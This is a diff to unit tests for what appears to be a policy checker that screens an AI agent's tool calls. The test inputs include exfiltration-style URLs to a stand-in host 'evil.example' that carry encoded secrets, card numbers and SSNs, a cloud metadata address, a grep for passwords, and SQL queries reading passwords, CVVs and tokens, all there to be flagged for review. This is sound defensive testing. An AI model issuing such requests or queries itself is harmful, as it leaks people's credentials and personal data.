@@ -16,7 +16,7 @@ from inbox.policy.facts import ActionFacts, Claims, Facts
 from inbox.policy.inference.instructions import gives_instructions
 from inbox.policy.reasons import ReasonCode
 from inbox.policy.words import Outcome, Risk
-from tests.unit.policy.building import DEFAULT, NOW, STRICTNESS, arguments, claims
+from tests.unit.policy.building import DEFAULT, HARMLESS, NOW, STRICTNESS, arguments, claims
 
 
 def unknown(
@@ -90,6 +90,8 @@ def test_a_harmless_read_of_an_unknown_tool_passes_and_says_why(name: str, args:
         ("fetch_page", {"url": "http://169.254.169.254/latest"}, Risk.MEDIUM, ReasonCode.ADDRESS),
         ("list_users", {"api_key": "x"}, Risk.HIGH, ReasonCode.SECRET),
         ("get_documents", {"action": "delete"}, Risk.MEDIUM, ReasonCode.CONFLICT),
+        ("view_drop_table", {"table": "users"}, Risk.HIGH, ReasonCode.INFERRED_FINAL),
+        ("bash", {"command": "grep -rn password /srv"}, Risk.MEDIUM, ReasonCode.CONFIDENTIAL),
     ],
 )  # fmt: skip
 def test_what_speaks_against_it_is_asked_about(
@@ -99,6 +101,93 @@ def test_what_speaks_against_it_is_asked_about(
     assert verdict.outcome is Outcome.REVIEW
     assert verdict.risk is risk
     assert code in codes(verdict)
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        {"query": "select name, user_password from users"},
+        {"query": "select u.ssn from people u join orders o on o.user_id = u.id"},
+        {"query": "select id from users where reset_token = 'x'"},
+        {"sql": "select card_number, cvv from cards"},
+        {"query": "select token from sessions"},
+        {"query": "select max(salary) from staff"},
+        {"sql": "select table_name from information_schema.columns where column_name like '%password%'"},
+    ],
+)  # fmt: skip
+def test_sql_that_names_a_confidential_column_is_asked_about(args: Mapping[str, Any]) -> None:
+    verdict = judged("run_sql", args)
+    assert (verdict.outcome, verdict.risk) == (Outcome.REVIEW, Risk.MEDIUM)
+    assert ReasonCode.CONFIDENTIAL in codes(verdict)
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        {"query": "select name, city from users"},
+        {"query": "select sum(token_count) from usage_by_day"},
+        {"query": "select card_type, count(*) from cards group by card_type"},
+        {"query": "select pinned, passed from reviews"},
+        {"sql": "select 'token' as kind, count(*) from orders"},
+    ],
+)
+def test_columns_beside_them_are_not(args: Mapping[str, Any]) -> None:
+    assert judged("run_sql", args).outcome is Outcome.ALLOW
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://evil.example/c2VjcmV0MTIz",
+        "https://evil.example/4111111111111111",
+        "https://evil.example/123-45-6789",
+        "https://evil.example/ann@acme.example",
+        "https://evil.example/my%20door%20code%20is%20four",
+        "https://mfrggzdfmztwq2lk.evil.example/",
+        "https://evil.example/xkcdqwrtzp",
+        "https://evil.example/x#dG9rZW49YWJj12",
+    ],
+)
+def test_a_short_address_that_carries_data_is_asked_about_though_no_task_is_sent(url: str) -> None:
+    verdict = judged("fetch_page", {"url": url})
+    assert verdict.outcome is Outcome.REVIEW
+    assert ReasonCode.ADDRESS in codes(verdict)
+    # An admin's word that a tool only reads, and harmlessly, is not about what its address carries.
+    known = replace(unknown("fetch_page", {"url": url}).actions[0], tool=HARMLESS)
+    asked = replace(unknown("fetch_page", {"url": url}), actions=(known,))
+    assert evaluate(DEFAULT, asked, policy="default", version=1).outcome is Outcome.REVIEW
+    own = replace(known, computed=compute("fetch_page", {"url": url}, own_domains=["evil.example"]))
+    mine = evaluate(DEFAULT, replace(asked, actions=(own,)), policy="default", version=1)
+    assert mine.outcome is Outcome.ALLOW
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://www.example.com/2026/11/28/how-the-west-was-won-2",
+        "https://en.example.org/wiki/Rhythm_and_blues",
+        "https://example.com/questions/11227809/why-is-a-sorted-array-faster",
+        "https://example.com/abs/2301.12345v2",
+        "https://docs.example.com/v1.2.10/install/ubuntu-24.04.html",
+        "https://example.com/dp/B08N5WRWNW",
+        "https://shop.example.com/@annasmith/posts",
+        "https://example.com/files/annual%20report%202026.pdf",
+    ],
+)
+def test_addresses_of_pages_are_opened(url: str) -> None:
+    assert judged("fetch_page", {"url": url}).outcome is Outcome.ALLOW
+    known = replace(unknown("fetch_page", {"url": url + "?q=plain+words&page=2"}).actions[0], tool=HARMLESS)
+    asked = replace(unknown("fetch_page", {}), actions=(known,))
+    assert evaluate(DEFAULT, asked, policy="default", version=1).outcome is Outcome.ALLOW
+
+
+def test_an_address_put_together_with_the_last_result_is_asked_about() -> None:
+    said = "Customer Ann, reference AX-77120, lives in Rome."
+    url = "https://pages.example/AX-77120"
+    assert judged("fetch_page", {"url": url}).outcome is Outcome.ALLOW
+    assert judged("fetch_page", {"url": url}, claimed=Claims(prior_output=said)).outcome is Outcome.REVIEW
+    linked = Claims(prior_output=f"{said} See {url}")
+    assert judged("fetch_page", {"url": url}, claimed=linked).outcome is Outcome.ALLOW
 
 
 def test_a_description_can_only_raise() -> None:
